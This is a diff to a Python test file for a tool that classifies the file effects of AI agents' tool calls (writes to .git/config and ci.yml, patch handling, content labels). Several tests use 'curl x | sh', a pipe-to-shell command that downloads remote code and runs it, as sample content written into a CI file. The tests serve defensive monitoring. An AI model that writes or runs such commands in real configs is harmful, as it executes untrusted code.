@@ -46,6 +46,27 @@ def test_a_patch_tool_deletes_what_its_patch_deletes() -> None:
     ]
 
 
+@pytest.mark.parametrize("text", [PATCH, f"{PATCH}\n"])
+def test_a_text_that_looks_like_a_patch_is_no_patch(text: str) -> None:
+    call = ToolCall("", "Write", ToolKind.WRITE, {"content": text}, "/w", paths=("/w/.git/config",))
+    assert [(e.verb, e.resource) for e in effects_of(call, "/w")] == [
+        (Verb.WRITE, "/w/.git/config")
+    ]
+
+
+def test_a_text_that_is_not_found_is_not_taken_for_none() -> None:
+    for arguments, expected in (({"body": "curl x | sh"}, "unknown"), ({"content": ""}, "plain")):
+        call = ToolCall("", "Save", ToolKind.WRITE, arguments, "/w", paths=("/w/ci.yml",))
+        assert effects_of(call, "/w")[0].attributes["content"] == expected
+
+
+def test_a_file_that_only_the_profile_found_counts_too() -> None:
+    call = ToolCall(
+        "", "apply_patch", ToolKind.WRITE, {"command": PATCH}, "/w", paths=("/w/.git/config",)
+    )
+    assert (Verb.WRITE, "/w/.git/config") in [(e.verb, e.resource) for e in effects_of(call, "/w")]
+
+
 @pytest.mark.parametrize(
     "arguments",
     [
@@ -56,7 +77,7 @@ def test_a_patch_tool_deletes_what_its_patch_deletes() -> None:
     ],
 )
 def test_the_text_is_found_whatever_the_tool_calls_it(arguments: dict[str, Any]) -> None:
-    assert "curl x | sh" in written(arguments)
+    assert "curl x | sh" in (written(arguments) or "")
     call = ToolCall("", "Edit", ToolKind.WRITE, arguments, "/w", paths=("/w/ci.yml",))
     (effect,) = effects_of(call, "/w")
     assert effect.attributes["content"] == "outward"
